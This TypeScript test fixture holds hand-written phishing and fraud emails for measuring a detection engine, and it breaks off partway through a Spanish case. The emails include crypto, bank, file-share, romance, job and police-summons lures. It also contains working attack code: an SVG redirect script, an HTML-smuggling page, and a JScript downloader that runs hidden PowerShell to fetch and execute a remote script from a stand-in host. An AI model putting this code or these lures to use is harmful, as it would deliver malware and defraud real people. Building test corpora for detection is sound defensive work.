// A second, blind batch of hand-written phishing and fraud (2023–2026), written without reading
// the detection code, to measure the engine on mail nobody tuned it to. The weight is on what
// real collections hold most: real platforms abused (hijacked Mailchimp, Brevo, SendGrid and
// ActiveCampaign accounts, Google Drive and Docs notifications, DocuSign, Dropbox, Microsoft
// Forms, Zendesk, Square), crypto wallet and exchange lures, authorities (police "convocations",
// court summons, traffic fines, tax offices, customs), bank and payment-app alerts, mailbox and
// voicemail lures, brandless delivery fees, advance-fee, romance and job scams, and a few
// malware droppers. Criminal infrastructure uses invented names and documentation IP ranges;
// real brand domains appear only where the brand's own service is abused or spoofed.

import { JPEG, isoImage, shortcut, textPdf, zip } from './formats-builders.ts';
import { attachment, document, gmailBody, html, LIST_UNSUBSCRIBE_POST, mail, multipart, plain } from './mail-builder.ts';
import type { Entity } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';

/** An inline picture referenced by `cid:` from the HTML, as picture-only lures carry it. */
export function inlineImage(cid: string, name: string, bytes: Uint8Array): Entity {
  return {
    headers: [
      `Content-Type: image/jpeg; name="${name}"`,
      'Content-Transfer-Encoding: base64',
      `Content-ID: <${cid}>`,
      `Content-Disposition: inline; filename="${name}"`,
    ],
    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
  };
}

/** ActiveCampaign's click tracker: the destination travels base64-encoded in redirectUrl. */
function activeCampaignLink(account: string, destination: string): string {
  return `https://${account}.lt.acemlnb.com/Prod/link-tracker?redirectUrl=${encodeURIComponent(Buffer.from(destination).toString('base64'))}&sig=7mQx2Lr9Tn4Vb1Kc8Zp3Wy6Hd5Fj0As&iat=1730112044&a=%7C%7C1001188%7C%7C&account=${account}%2Eactivehosted%2Ecom&email=Qk7vX1m2N3b4V5c6&s=9f2e7a1c3b8d4e6f0a5b2c9d7e1f3a4b&i=47A61A2A311`;
}

/** An SVG "voice message" that sends the browser to the collector with the victim's address (the 2024–2025 SVG wave). */
function svgRedirect(target: string, email: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">',
    '<rect width="420" height="120" rx="8" fill="#f3f2f1"/><text x="24" y="66" font-family="Segoe UI" font-size="18">&#9654; Playing voice message (00:38)…</text>',
    `<script type="text/javascript"><![CDATA[var e="${Buffer.from(email).toString('base64')}";window.location.href=atob("${Buffer.from(target).toString('base64')}")+e;]]></script>`,
    '</svg>',
  ].join('\n');
}

/** HTML smuggling: the page decodes a ZIP (holding a .js) in the browser and saves it. */
function smugglingPage(archiveName: string, inner: Uint8Array): string {
  const data = Buffer.from(inner).toString('base64');
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>OneDrive</title></head><body style="font-family:Segoe UI"><p>Your document is downloading. Open the file once the download completes.</p><script>
function b(s){var r=window.atob(s),n=r.length,u=new Uint8Array(n);for(var i=0;i<n;i++){u[i]=r.charCodeAt(i);}return u;}
var d="${data}";
var f=new Blob([b(d)],{type:"application/zip"});
var a=document.createElement("a");a.href=window.URL.createObjectURL(f);a.download="${archiveName}";document.body.appendChild(a);a.click();
</script></body></html>`;
}

const JS_DOWNLOADER =
  'var sh=new ActiveXObject("WScript.Shell");var p=["pow","ershell"," -w hidden -nop -c ","\\"iwr https://cdn-docview.example.net/s.ps1 -useb|iex\\""].join("");sh.Run(p,0,false);';

export const MORE_CASES: readonly PhishingCase[] = [
  // ---------------------------------------------------------------- English
  {
    // Hijacked Mailchimp accounts are rented out to mail wallet lures to the account's own list:
    // the ESP signs, the list headers are genuine, the footer is still the garden centre's.
    name: 'Ledger "device check" sent to a garden centre\'s own list from its hijacked Mailchimp account',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Ledger <newsletter@thornfieldgardencentre.co.uk>',
      to: 'owen.marsh@btinternet.com',
      subject: 'Action needed: complete your Ledger device check before 31 October',
      date: 'Tue, 22 Oct 2024 18:04:11 +0000',
      messageId: '5e2b8c1f0a9d7e3c4b6a1f2e8d9c0b7a.20241022180411@mail57.sea31.mcsv.net',
      dkim: ['thornfieldgardencentre.co.uk:k1', 'mcsv.net:k3'],
      returnPath: 'bounce-mc.us17_48213377.1183554-8c2e1a9f07@mail57.sea31.mcsv.net',
      relay: 'mail57.sea31.mcsv.net [198.2.180.57]',
      headers: [
        'List-Unsubscribe: <https://thornfieldgardencentre.us17.list-manage.com/unsubscribe?u=b41c7e2a9f3d08e6c15a7b2d4&id=71e3c9a0f2&t=b&e=8c2e1a9f07&c=2d9b4f1e6a>, <mailto:unsubscribe-mc.us17_b41c7e2a9f3d08e6c15a7b2d4.2d9b4f1e6a-8c2e1a9f07@unsubscribe.mailchimpapp.net?subject=unsubscribe>',
        LIST_UNSUBSCRIBE_POST,
        'List-ID: b41c7e2a9f3d08e6c15a7b2d4mc list <b41c7e2a9f3d08e6c15a7b2d4.1183554.list-id.mcsv.net>',
        'X-Mailer: Mailchimp Mailer - **CID2d9b4f1e6a8c2e1a9f07**',
        'X-Campaign: mailchimpb41c7e2a9f3d08e6c15a7b2d4.2d9b4f1e6a',
        'X-MC-User: b41c7e2a9f3d08e6c15a7b2d4',
        'Feedback-ID: 48213377:48213377.1183554:us17:mc',
      ],
      body: document(
        [
          { image: 'https://mcusercontent.com/b41c7e2a9f3d08e6c15a7b2d4/images/ledger-wordmark.png', alt: 'Ledger' },
          { heading: 'Mandatory device check' },
          'Dear Ledger customer,',
          'Following a data incident at one of our e-commerce partners, we are asking every owner of a Ledger Nano S Plus, Nano X or Stax to run a device check. Devices that are not checked by 31 October will no longer be able to sign transactions in Ledger Live.',
          'The check takes two minutes: connect your device and confirm your 24-word Secret Recovery Phrase so we can confirm the device has not been cloned.',
          {
            button: 'Start device check',
            href: 'https://thornfieldgardencentre.us17.list-manage.com/track/click?u=b41c7e2a9f3d08e6c15a7b2d4&id=f0c8d2a6b1&e=8c2e1a9f07',
          },
          'Ledger will never ask you to send funds. Thank you for helping us keep your assets safe.',
          {
            small:
              'Copyright © 2024 Thornfield Garden Centre, All rights reserved. You are receiving this email because you opted in at our tills or on our website. Our mailing address is: Thornfield Garden Centre, Ashby Road, Melton Mowbray LE13 0QE, United Kingdom. [Unsubscribe from this list](https://thornfieldgardencentre.us17.list-manage.com/unsubscribe?u=b41c7e2a9f3d08e6c15a7b2d4&id=71e3c9a0f2&e=8c2e1a9f07).',
          },
        ],
        { preheader: 'Devices not checked by 31 October will stop signing', title: 'Ledger' },
      ),
    }),
  },
  {
    // The "withdrawal requested, cancel it if it was not you" trick: fear of losing the coins
    // makes the reader click the cancel button, which leads to the sign-in page.
    name: 'Coinbase "withdrawal of 0.8421 BTC requested, cancel if this wasn\'t you" through SendGrid from a look-alike',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Coinbase <no-reply@coinbase-accountsupport.com>',
      to: 'Daniel Ortiz <dan.ortiz.88@gmail.com>',
      subject: 'Withdrawal requested: 0.8421 BTC',
      date: 'Sat, 8 Mar 2025 02:17:45 +0000',
      messageId: 'Tq8Wn2Lk5Rz1Xb7Vc4Mp9Y@geopod-ismtpd-3',
      dkim: ['coinbase-accountsupport.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+49921173-0c2e-dan.ortiz.88=gmail.com@em9921.coinbase-accountsupport.com',
      relay: 'o2.ptr9921.coinbase-accountsupport.com [149.72.150.219]',
      headers: ['X-SG-EID: u001.N2kq8Rz1Wb7Lt4Xc9Vm3Pj6Hd0Fs5Ay2Ge8Ko1Mn4', 'X-Entity-ID: u001.Lm7Qx2Tz9Rk4=='],
      body: document([
        { heading: 'Withdrawal requested' },
        'We received a request to withdraw 0.8421 BTC (≈ $51,204.13) from your Coinbase account.',
        {
          rows: [
            ['Amount', '0.8421 BTC'],
            ['Destination', 'bc1q9h7ytm3k0l4w2xjz6f5d8c7v0a3s2e4r6t8y0u'],
            ['Requested', 'March 8, 2025 02:16 UTC'],
            ['Device', 'Windows 10 · Lagos, NG'],
          ],
        },
        'The withdrawal will be processed in 60 minutes. If you did not make this request, cancel it now and secure your account.',
        { button: 'Cancel withdrawal', href: 'https://u49921173.ct.sendgrid.net/ls/click?upn=u001.Vx3Kq9Lm2Tz7Rb4Wn8Pc1Hd5Fj6As0Gy-2Bk4' },
        { small: 'Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607. Do not share your 2-step verification codes with anyone.' },
      ]),
    }),
  },
  {
    // Google Drive's own share mail: genuine google.com sender, DKIM and links; the lure is the
    // document title and the sharer's note, both written by the criminal.
    name: 'Google Drive share whose document title announces a 1.874 BTC payout ready to withdraw',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Payout Desk (via Google Drive) <drive-shares-dm-noreply@google.com>',
      to: 'linda.mcallister54@gmail.com',
      replyTo: 'Payout Desk <payoutdesk.release.team@gmail.com>',
      subject: 'Document shared with you: "Withdrawal Confirmation – 1.8740 BTC – Ref PX-44817"',
      date: 'Thu, 16 Jan 2025 11:48:32 -0800',
      messageId: '9c2e1f7a4b8d0e3c5a6f-0@google.com',
      dkim: ['google.com:20230601'],
      returnPath: '3zH8hZwcKBcQ8gj-9iw4f-2s3v4f7a.u45@doclist.bounces.google.com',
      relay: 'mail-sor-f69.google.com [209.85.220.69]',
      headers: ['Feedback-ID: 0:drive-shares-dm:drive-shares'],
      body: document([
        'Payout Desk shared a document',
        'Payout Desk (payoutdesk.release.team@gmail.com) has invited you to view the following document:',
        '“Your account balance of 1.8740 BTC (≈ USD 178,420) is ready for withdrawal. Follow the release instructions in the document. Balances not claimed within 48 hours are closed.”',
        { button: 'Open', href: 'https://docs.google.com/presentation/d/1Vq8Kx2Lm5Nz7Rb3Wt9Yc4Hd6Fj0As1Ge/edit?usp=sharing_eip&ts=678962b0' },
        {
          small:
            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because payoutdesk.release.team@gmail.com shared a document with you from Google Slides.',
        },
      ]),
    }),
  },
  {
    // Docs comment notifications carry the comment text verbatim, links included; a mention
    // is enough to make Google mail anyone.
    name: 'Google Docs comment mention carrying a "refund on hold, confirm your card" link',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Marcus Hale (Google Docs) <comments-noreply@docs.google.com>',
      to: 'karen.brooks1979@gmail.com',
      replyTo: 'Marcus Hale <m.hale.refunds2@gmail.com>',
      subject: 'Marcus Hale mentioned you in "Refund Statement – Case 88213"',
      date: 'Wed, 11 Jun 2025 07:05:19 -0700',
      messageId: 'docs-comments-b7e2c1f9a4d83e6c0a5f@docs.google.com',
      dkim: ['docs.google.com:20230601'],
      returnPath: '3Ya7hZwgTCbU6mh-4dl5gy-5r2.rzb@docos.bounces.google.com',
      relay: 'mail-sor-f73.google.com [209.85.220.73]',
      headers: ['Feedback-ID: 0:docos-comments:docos'],
      body: document([
        'Marcus Hale mentioned you in a comment in the following document',
        { heading: 'Refund Statement – Case 88213' },
        '“+karen.brooks1979@gmail.com A refund of $2,349.00 from your Amazon order has been put on hold. Confirm your card within 24 hours to release it: https://refund-release-center.com/claim?case=88213”',
        { button: 'Open', href: 'https://docs.google.com/document/d/1Hk2Lq8Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1Gy/edit?disco=AAAA9xK2mQ&usp=comment_email_document' },
        {
          small:
            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because you are mentioned in this thread. Change what Google Docs sends you.',
        },
      ]),
    }),
  },
  {
    // A criminal's own DocuSign account: genuine docusign.net sender; the envelope message
    // sends the reader to an outside "secure viewer" before anything is signed.
    name: 'Real DocuSign envelope from a criminal\'s account whose message links to an outside "secure viewer"',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Accounts Payable via Docusign <dse_NA3@docusign.net>',
      to: 'Greg Thompson <gthompson@pinecrestmechanical.com>',
      subject: 'Complete with Docusign: Remittance_Advice_PMC_0614.pdf',
      date: 'Mon, 16 Jun 2025 13:41:07 +0000',
      messageId: '4c9e2a7b1f3d8e0c6a5b2d9f7e1c3a8b@docusign.net',
      dkim: ['docusign.net:s1'],
      relay: 'mailna3.docusign.net [64.207.219.71]',
      body: document([
        { image: 'https://na3.docusign.net/Member/Images/email/docusign-logo.png', alt: 'Docusign' },
        { heading: 'Accounts Payable sent you a document to review and sign.' },
        {
          button: 'REVIEW DOCUMENT',
          href: 'https://na3.docusign.net/Signing/EmailStart.aspx?a=3e7c1b9a-2d4f-4a6e-8c0b-5f1e9d2a7c4b&etti=24&acct=7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b&er=9a1c3e5b-7d2f-4b6a-8e0c-2f4a6c8e0b1d',
        },
        'Accounts Payable',
        'Hello, the remittance for invoice PMC-0614 ($38,760.00) has been released. Because of its size, the payment confirmation is held in our secure viewer: please access it with your company email login at https://remit-secureview.net/pmc/0614 before signing the acknowledgement.',
        {
          small:
            "Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others. Alternate Signing Method: visit Docusign.com, click 'Access Documents', and enter the security code: 3E7C1B9A2D4F4A6E8C0B5F1E9D2A7C4B3",
        },
      ]),
    }),
  },
  {
    // A compromised college mailbox sends Microsoft's own form service: every link is
    // forms.office.com, every signature passes; the form asks for the password.
    name: 'Mailbox quota "upgrade" on Microsoft Forms sent from a compromised community-college account',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'IT Service Desk <jporter@lakeviewcc.edu>',
      to: 'jporter@lakeviewcc.edu',
      subject: 'Mailbox storage 99% full – upgrade required',
      date: 'Tue, 4 Feb 2025 15:02:48 -0600',
      messageId: 'SA1PR19MB5522D8A1B3C4E5F60718293A4B5C6@SA1PR19MB5522.namprd19.prod.outlook.com',
      dkim: ['lakeviewcc.edu:selector1'],
      relay: 'NAM11-CO1-obe.outbound.protection.outlook.com [40.107.220.93]',
      body: document([
        'Dear User,',
        'Your mailbox has reached 99% of its storage limit (49.6 GB of 50 GB). You will not be able to send or receive new messages until your storage is upgraded.',
        'To upgrade to 100 GB at no cost, complete the verification form below with your email address and password within 24 hours.',
        {
          button: 'Upgrade storage',
          href: 'https://forms.office.com/Pages/ResponsePage.aspx?id=Kq8Lm2Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1GyHk2Lq8Rz5Nw7UQjBZMVlaMEZGN1JXSDk5Rk',
        },
        'IT Service Desk',
        { small: 'Never give out your password. Microsoft Forms' },
      ]),
    }),
  },
  {
    // Dropbox's genuine share mail from a hijacked customer account: everything passes and the
    // sharer is a real person the reader may know; the note asks for the mail password.
    name: 'Dropbox share from a hijacked customer account: "sign in with your email password to view the contract"',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Rachel Dunmore (via Dropbox) <no-reply@dropbox.com>',
      to: 'Steve Albright <steve@albrightroofing.com>',
      replyTo: 'Rachel Dunmore <rachel@dunmorehomes.com>',
      subject: 'Rachel Dunmore shared "Signed Contract & Payment Schedule" with you',
      date: 'Thu, 27 Feb 2025 16:33:21 +0000',
      messageId: '20250227163321.7e1c9a2b4f6d@dropbox.com',
      dkim: ['dropbox.com:scph0922'],
      relay: 'mail-sor-f71.dropbox.com [162.125.6.71]',
      body: document([
        'Rachel Dunmore (rachel@dunmorehomes.com) invited you to view the folder "Signed Contract & Payment Schedule" on Dropbox.',
        '"Hi, please review the signed contract and the payment schedule for the Oakridge project. For security, sign in with your email and email password to open the PDF."',
        { button: 'Go to folder', href: 'https://www.dropbox.com/scl/fo/q8w2e4r6t1y3u5i7o9p0a/h?rlkey=z1x3c5v7b9n2m4l6k8j0h&dl=0' },
        { small: 'Enjoy! The Dropbox team. © 2025 Dropbox, Inc.' },
      ]),
    }),
  },
  {
    // Square's genuine invoice mail: the "business" is the criminal's, the line item and the
    // note carry the lure, and the reader is told to call rather than pay.
    name: 'Square invoice from an "Apple Billing" seller: $849.99 iPhone charge, call to cancel',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Apple Billing Support via Square <invoicing@messaging.squareup.com>',
      to: 'Teresa Nguyen <teresa.nguyen.home@yahoo.com>',
      replyTo: 'Apple Billing Support <applebilling.helpdesk24@outlook.com>',
      subject: 'Invoice #000417 from Apple Billing Support',
      date: 'Fri, 23 May 2025 20:12:54 +0000',
      messageId: '0100019700d2e4f6-a1b2c3d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d-000000@messaging.squareup.com',
      dkim: ['messaging.squareup.com:sq1', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '0100019700d2e4f6-a1b2c3d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d-000000@amazonses.com',
      relay: 'a8-77.smtp-out.amazonses.com [54.240.8.77]',
      headers: ['Feedback-ID: 1.us-east-1.c3F1YXJlLWludm9pY2Vz:AmazonSES'],
      body: document([
        { heading: 'Apple Billing Support sent you an invoice for $849.99' },
        {
          rows: [
            ['Invoice', '#000417'],
            ['Due', 'Upon receipt'],
            ['Item', 'iPhone 15 Pro Max 256GB – Apple Pay order'],
            ['Total', '$849.99'],
          ],
        },
        'Message from Apple Billing Support: Your Apple Pay wallet was charged $849.99 for the order above. If you did not place this order, DO NOT PAY. Call Apple Billing at +1 (833) 604-2197 within 24 hours to cancel and receive your refund.',
        { button: 'Pay invoice', href: 'https://squareup.com/pay-invoice/inv:0-ChAq8Lm2Rz5Nw7Vb3Xc9Mp4T' },
        { small: 'Square, Inc., 1955 Broadway, Suite 600, Oakland, CA 94612. Square processes payments for Apple Billing Support.' },
      ]),
    }),
  },
  {
    // Free Zendesk trials named after the brand send "support tickets" that pass every check.
    name: 'Binance "support ticket" from a Zendesk trial named after the brand: KYC re-verification in 24 hours',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Binance Support <support@binancecare-help.zendesk.com>',
      to: 'Hassan Qureshi <hassan.qureshi.uk@gmail.com>',
      subject: '[Binance] Request #48213: Withdrawals restricted – KYC re-verification required',
      date: 'Mon, 14 Apr 2025 09:26:10 +0000',
      messageId: 'ZD9K2M4Q1R_6804c1a2e9b4f_sprut@zendesk.com',
      dkim: ['zendesk.com:zendesk1'],
      returnPath: 'support+id48213-n7q2lk@binancecare-help.zendesk.com',
      relay: 'out-14.smtp.zendesk.com [192.161.144.14]',
      headers: ['X-Mailer: Zendesk Mailer', 'X-Zendesk-From-Account-Id: 1a9c3e7', 'X-Zendesk-Email-Id: 01JRQ8K2M4Q1R6TN9ZV3XW5YB7'],
      body: document([
        '##- Please type your reply above this line -##',
        'Your request (48213) has been updated. To add additional comments, reply to this email.',
        { heading: 'Binance Compliance' },
        'Dear user, a routine compliance review has placed a temporary restriction on withdrawals from your account. To lift it, complete the KYC re-verification within 24 hours. Accounts not verified in time are frozen and the balance is held for 180 days.',
        { button: 'Complete verification', href: 'https://binance-compliance-review.com/kyc?ticket=48213' },
        'Binance Support Team',
        { small: 'This email is a service from Binance Support. Delivered by Zendesk' },
      ]),
    }),
  },
  {
    // Airdrop drainers: "connect your wallet to claim" sent through a Brevo account opened for it.
    name: 'Arbitrum "Season 3 airdrop, 2,150 ARB to claim" through Brevo from a throw-away foundation domain',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Arbitrum Foundation <claims@arb-foundation-rewards.io>',
      to: 'nate.kowalczyk@protonmail.com',
      subject: 'You are eligible: 2,150 ARB waiting in the Season 3 airdrop',
      date: 'Wed, 19 Nov 2025 16:40:03 +0000',
      messageId: '202511191640.84137265503@smtp-relay.mailin.fr',
      dkim: ['arb-foundation-rewards.io:brevo1', 'sendinblue.com:mail'],
      returnPath: 'bounces-384137265-nate.kowalczyk=protonmail.com@sendibt3.com',
      relay: 'kdjwqpb.r.sendibt3.com [77.32.148.61]',
      headers: [
        'List-Unsubscribe: <https://r.sendibt3.com/mk/un/v2/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Pk4Zt7Qw1>, <mailto:unsubscribe@sendibt3.com?subject=unsubscribe>',
        LIST_UNSUBSCRIBE_POST,
        'X-Mailin-Campaign: 3',
        'X-Mailin-Client: 6381442',
        'Feedback-ID: 77.32.148.61:6381442_-1:6381442:Sendinblue',
      ],
      body: document(
        [
          { heading: 'Season 3 airdrop is live' },
          'Your wallet was active on Arbitrum One during the snapshot and qualifies for 2,150 ARB (≈ $1,720).',
          'Connect the wallet you used during the snapshot and sign the claim message. Unclaimed allocations return to the DAO treasury on 26 November.',
          { button: 'Claim 2,150 ARB', href: 'https://r.sendibt3.com/mk/cl/f/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Hk3Yd6Ws2' },
          {
            small:
              'Arbitrum Foundation, Cayman Islands. You received this email because you interacted with the Arbitrum ecosystem. [Unsubscribe](https://r.sendibt3.com/mk/un/v2/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Pk4Zt7Qw1)',
          },
        ],
        { preheader: '2,150 ARB allocated to your wallet' },
      ),
    }),
  },
  {
    name: 'Chase "new device added to your account" from a throw-away domain, verify-identity link',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Chase Online <alerts@chaseonline-devicecheck.com>',
      to: 'Melissa Grant <melissa.grant71@aol.com>',
      subject: 'New device added to your Chase account',
      date: 'Sun, 12 Jan 2025 06:51:28 -0500',
      messageId: '1736682688.77413@chaseonline-devicecheck.com',
      dkim: ['chaseonline-devicecheck.com:default'],
      relay: 'mail.chaseonline-devicecheck.com [198.51.100.143]',
      auth: { dmarc: 'none' },
      body: document([
        { image: 'https://chaseonline-devicecheck.com/img/chase-logo.png', alt: 'Chase' },
        'Dear Customer,',
        'A new device (iPhone 16, iOS 18.2) was added to Chase Mobile for your account on January 12, 2025 at 6:48 AM ET.',
        "If you added this device, no action is needed. If you don't recognize it, verify your identity now to remove the device. For your protection, online access will be limited until you confirm.",
        { button: 'Verify my identity', href: 'https://chaseonline-devicecheck.com/secure/verify?session=Ah7Qz2' },
        { small: "JPMorgan Chase Bank, N.A. Member FDIC. Please don't reply to this automated message." },
      ]),
    }),
  },
  {
    // The SVG wave of 2024–2025: a picture file that is really a script redirecting to the
    // collector with the victim's address appended.
    name: 'Voicemail as an .svg attachment whose script redirects to a sign-in page with the address appended',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Voice Message <vm-notify@kensingtonchiro.com>',
      to: 'Amy Rhodes <arhodes@kellerwhitfield.com>',
      subject: 'VM Received for arhodes – Caller (214) ***-**77 – 0:38',
      date: 'Tue, 29 Oct 2024 14:22:05 +0000',
      messageId: '20241029142205.5a9e1c@kensingtonchiro.com',
      dkim: ['kensingtonchiro.com:default'],
      relay: 'gator4121.hostgator.com [192.0.2.121]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        document([
          { heading: 'You have a new voice message' },
          {
            rows: [
              ['Caller', '(214) ***-**77'],
              ['Duration', '0:38'],
              ['Recipient', 'arhodes@kellerwhitfield.com'],
            ],
          },
          'Open the attached message to listen.',
        ]),
        attachment('Playback_VM_arhodes_0038.svg', 'image/svg+xml', svgRedirect('https://vm-playback.b-cdn.net/auth/?u=', 'arhodes@kellerwhitfield.com')),
      ]),
    }),
  },
  {
    name: 'HTML smuggling: "payment advice" page that assembles a ZIP holding a JScript downloader',
    lang: 'en',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Accounts Receivable <ar@brookfieldsupplyco.net>',
      to: 'Tom Reilly <treilly@reillyelectric.com>',
      subject: 'Payment Advice – INV 20931 – Remittance',
      date: 'Wed, 9 Jul 2025 12:18:37 +0000',
      messageId: '20250709121837.C1A7E2@brookfieldsupplyco.net',
      dkim: ['brookfieldsupplyco.net:mail'],
      relay: 'smtp.brookfieldsupplyco.net [203.0.113.77]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        plain(
          'Hello,\n\nPlease see the attached payment advice for invoice 20931. Open it in your browser to download the remittance.\n\nRegards,\nAccounts Receivable',
        ),
        attachment('Payment_Advice_INV20931.html', 'text/html', smugglingPage('Remittance_INV20931.zip', zip({ 'Remittance_INV20931.js': JS_DOWNLOADER }))),
      ]),
    }),
  },
  {
    // Romance scams start with a long, warm letter from a free mailbox and end with a fee.
    name: 'Romance scam: a "UN surgeon in Yemen" asks for $2,400 for his leave papers',
    lang: 'en',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Dr. William Foster <dr.williamfoster.un@gmail.com>',
      to: 'Carol Jennings <caroljennings.56@gmail.com>',
      subject: 'My dearest Carol',
      date: 'Sat, 15 Mar 2025 04:37:19 +0000',
      messageId: 'CAJm4Xp8Qz2Nw5Rb7Vt1Lc3Hd9Fs6Ay0Ge2Ko4Mn8Tq1Zx5@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: gmailBody(
        [
          'My dearest Carol,',
          '',
          'I read your message three times before I slept. You cannot know what your words mean to a man who spends his days in a field hospital far from everyone he loves. Since my wife passed, I did not think I could feel this way again.',
          '',
          'I have good news and bad news, my love. The good news is that my contract with the UN medical mission ends next month and I can finally come to you in Ohio. The bad news is that the mission office will not release my leave papers until the leave fee of $2,400 is paid, and my salary account is frozen while I am on deployment for security reasons.',
          '',
          'I am ashamed to ask, but could you help me with this fee? You can send it by Western Union or in Apple gift cards to my agent, and I will pay you back the moment I land. Please keep this between us, my superiors would not understand.',
          '',
          'Forever yours,',
          'William',
        ].join('\n'),
      ),
    }),
  },
  {
    // The fake-check job: the "employer" mails a cheque and asks the new hire to buy
    // equipment from its "vendor" before the cheque bounces.
    name: 'Remote-assistant job offer: deposit our cheque and pay our equipment vendor by Zelle',
    lang: 'en',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Hiring Team – Northbridge Analytics <careers.northbridgeanalytics@gmail.com>',
      to: 'Jasmine Porter <jasmine.porter.jobs@gmail.com>',
      subject: 'Offer of Employment – Remote Administrative Assistant ($38/hr)',
      date: 'Mon, 3 Nov 2025 10:14:02 -0500',
      messageId: 'CAPk7Lq2Xz9Nw4Rb1Vt6Mc8Hd3Fs5Ay0Ge7Ko2Mn9Tq4Zx1@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f52.google.com [209.85.220.52]',
      body: gmailBody(
        [
          'Dear Jasmine,',
          '',
          'Following your online interview with our HR manager, we are pleased to offer you the position of Remote Administrative Assistant at $38 per hour, 25 hours per week, starting Monday.',
          '',
          'To set up your home office, we will mail you a company cheque of $4,850 this week. Once you deposit it by mobile deposit, send $4,200 by Zelle to our approved equipment vendor (details will follow) so they can ship your laptop, printer and software license. Keep the remaining $650 as your first-week allowance.',
          '',
          'Please reply with your full name, home address and cell phone number so we can send the cheque today. This offer is valid for 48 hours.',
          '',
          'Best regards,',
          'Linda Carver',
          'HR Manager, Northbridge Analytics',
        ].join('\n'),
      ),
    }),
  },

  // ---------------------------------------------------------------- Spanish
  {
    // The "convocatoria policial" scam: a letterhead PDF accusing the reader of sex crimes,
    // 72 hours to "justify yourself" by mail; the fine comes in the second message.
    name: 'Policía Nacional: citación en PDF por "pornografía infantil", responder en 72 horas a un correo gratuito',
    lang: 'es',
    lure: 'authority',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'POLICIA NACIONAL <comisaria.general.pj@outlook.es>',
      to: 'Antonio Ruiz <antonio.ruiz.m@hotmail.es>',
      replyTo: 'Comisaría General PJ <citaciones.brigada.central@gmx.es>',
      subject: 'CITACIÓN JUDICIAL Nº 2025/0418-PN – URGENTE',
      date: 'Thu, 24 Apr 2025 08:13:55 +0000',
      messageId: 'AM9PR02MB7418C3A1E2B4D5F6A7B8C9D0E1F2A@AM9PR02MB7418.eurprd02.prod.outlook.com',
      dkim: ['outlook.es:selector1'],
      relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.101]',
      body: multipart('mixed', [
        plain(
          'Buenos días,\n\nPor orden de la Comisaría General de Policía Judicial le remitimos la citación adjunta.\n\nDispone de 72 horas para responder.\n\nAtentamente,\nComisario Principal\nBrigada Central de Protección al Menor',
        ),
        attachment(
          'Citacion_Judicial_2025-0418.pdf',
          'application/pdf',
          textPdf([
            'MINISTERIO DEL INTERIOR - POLICIA NACIONAL',
            'COMISARIA GENERAL DE POLICIA JUDICIAL',
            'CITACION JUDICIAL N. 2025/0418-PN',
            'Por orden del Juzgado Central de Instruccion, es usted objeto de varios procedimientos',
            'judiciales tras una ciberinfiltracion autorizada, por: pornografia infantil, pedofilia,',
            'exhibicionismo y ciberpornografia.',
            'Para su confidencialidad le enviamos este correo. Tiene 72 horas para justificarse',
            'por correo electronico a citaciones.brigada.central@gmx.es. Pasado este plazo,',
            'transmitiremos el expediente al fiscal y se emitira una orden de detencion,',
            'y sera inscrito en el registro nacional de delincuentes sexuales.',
            'Comisario Principal - Jefe de la Brigada Central',
          ]),
        ),
      ]),
    }),
  },
  {
    // Picture-only: the whole "notice" is one image with a link; the only words are the subject.
    name: 'DGT: multa pendiente como una sola imagen enlazada, sin texto, dominio desechable',
    lang: 'es',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'DGT Sanciones <notificaciones@dgt-sanciones-tramite.com>',
      to: 'Laura Medina <laura.medina.g@gmail.com>',
      subject: 'Notificación de sanción pendiente de pago – Expediente 2025-MD-048213',
      date: 'Tue, 13 May 2025 10:22:41 +0200',
